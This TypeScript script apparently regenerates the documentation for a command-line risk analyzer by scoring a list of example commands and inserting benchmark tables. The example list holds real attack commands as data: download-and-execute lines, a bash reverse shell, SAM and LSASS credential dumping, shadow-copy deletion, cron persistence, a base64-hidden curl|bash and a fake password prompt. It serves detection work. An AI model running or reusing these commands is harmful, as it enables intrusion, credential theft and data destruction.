/**
 * Puts the figures of the command-line bench and the worked examples into `docs/command-line.md`, between their marks.
 *
 *   node tools/commandline-page.ts --data DIR             measures, with all adversarial shapes: some minutes on a quiet machine
 *   node tools/commandline-page.ts --figures FILE         takes what `npm run -s bench -- cmdline --data DIR --json` printed
 *   node tools/commandline-page.ts                        only the examples
 *
 * The text around the marks is written by hand and holds no figure of the bench. The examples are lines of our own; what stands under them is what the analysis says today.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';
import type { CommandLineFigures } from '../bench/cmdline/figures.ts';
import { benchCommandLine } from '../bench/cmdline/index.ts';
import { figuresTable } from '../bench/cmdline/table.ts';
import { analyzeCommandLine } from '../src/core/commandline/analyze.ts';
import type { Os } from '../src/core/commandline/types.ts';

const EXAMPLES: readonly { readonly os: Os; readonly line: string }[] = [
  { os: 'windows', line: 'msiexec.exe /q /i http://203.0.113.9/setup.msi' },
  { os: 'windows', line: 'msiexec.exe /i "C:\\Program Files\\Acme\\agent.msi" /qn' },
  {
    os: 'windows',
    line: `powershell -nop -w hidden -c "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"`,
  },
  {
    os: 'windows',
    line: 'powershell.exe -NoProfile -NonInteractive -Command "Get-Service | Where-Object Status -eq Running"',
  },
  { os: 'windows', line: 'cmd /c c^e^r^t^u^t^i^l -urlcache -f http://203.0.113.9/a.exe %TEMP%\\a.exe' },
  { os: 'windows', line: 'reg save HKLM\\SAM C:\\ProgramData\\s.hiv /y' },
  { os: 'windows', line: 'vssadmin delete shadows /all /quiet' },
  {
    os: 'windows',
    line: 'rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full',
  },
  { os: 'windows', line: 'choco install git -y --no-progress' },
  { os: 'windows', line: 'schtasks /create /tn Updater /tr "powershell -f C:\\Users\\Public\\u.ps1" /sc onlogon' },
  { os: 'linux', line: 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1' },
  { os: 'linux', line: '(crontab -l; echo "*/5 * * * * curl -fsSL http://203.0.113.9/c.sh | sh") | crontab -' },
  { os: 'linux', line: '/tmp/.X25-unix/.rsync/c/kswapd0' },
  { os: 'linux', line: 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveC5zaHxiYXNo | base64 -d | bash' },
  { os: 'linux', line: 'apt-get install -y --no-install-recommends curl ca-certificates' },
  { os: 'linux', line: 'curl -fsSL https://get.docker.com | sh' },
  { os: 'linux', line: 'sudo -l' },
  {
    os: 'macos',
    line: `osascript -e 'display dialog "macOS needs your password" default answer "" with hidden answer'`,
  },
  {
    os: 'macos',
    line: 'curl -s http://203.0.113.9/agent -o /tmp/.agent; xattr -c /tmp/.agent; chmod +x /tmp/.agent; /tmp/.agent',
  },
  { os: 'macos', line: '/usr/bin/defaults read com.apple.dock' },
];

function examplesText(): string {
  return EXAMPLES.flatMap(({ os, line }, index) => {
    const { score, risk, steps, publishedScore } = analyzeCommandLine(line, { os });
    const moving = steps.filter(({ points }) => points !== 0);
    return [
      `**${index + 1}.** ${os}: **${score}, ${risk}** (published weights: ${publishedScore})`,
      '',
      '```text',
      line,
      '```',
      '',
      ...(moving.length === 0
        ? ['- nothing that scores']
        : moving.map(({ step, points }) => `- ${points < 0 ? points : `+${points}`} ${step.replace(/\.$/, '')}`)),
      '',
    ];
  }).join('\n');
}

/** The page with the text between two marks replaced. */
function between(page: string, name: string, text: string): string {
  const begin = `<!-- begin ${name} -->\n`;
  const end = `<!-- end ${name} -->`;
  const from = page.indexOf(begin) + begin.length;
  const to = page.indexOf(end);
  if (from < begin.length || to === -1) throw new Error(`docs/command-line.md has no marks for ${name}`);
  return `${page.slice(0, from)}\n${text.trim()}\n\n${page.slice(to)}`;
}

/** The tables, and before them what they say is missed. */
function figuresText(figures: CommandLineFigures): string {
  const table = figuresTable(figures);
  const missed = table.split('\n').filter((row) => row.endsWith('| **missed** |'));
  const names = missed.map((row) => row.split('|')[1]?.trim() ?? '');
  const unmeasured = figures.adversarial === null ? ' The adversarial shapes were left out.' : '';
  return [
    `${names.length === 0 ? 'Every goal that is measured is met.' : `Missed: ${names.join('; ')}.`}${unmeasured}`,
    '',
    table,
  ].join('\n');
}

function figuresOf(data: string | undefined, file: string | undefined): CommandLineFigures | undefined {
  if (data !== undefined) return benchCommandLine(['--data', data]).figures;
  return file === undefined ? undefined : (JSON.parse(readFileSync(file, 'utf8')) as CommandLineFigures);
}

const { values } = parseArgs({ options: { data: { type: 'string' }, figures: { type: 'string' } } });
const path = fileURLToPath(new URL('../docs/command-line.md', import.meta.url));
const figures = figuresOf(values.data, values.figures);
let page = between(readFileSync(path, 'utf8'), 'examples', examplesText());
if (figures !== undefined) page = between(page, 'figures', figuresText(figures));
writeFileSync(path, page);
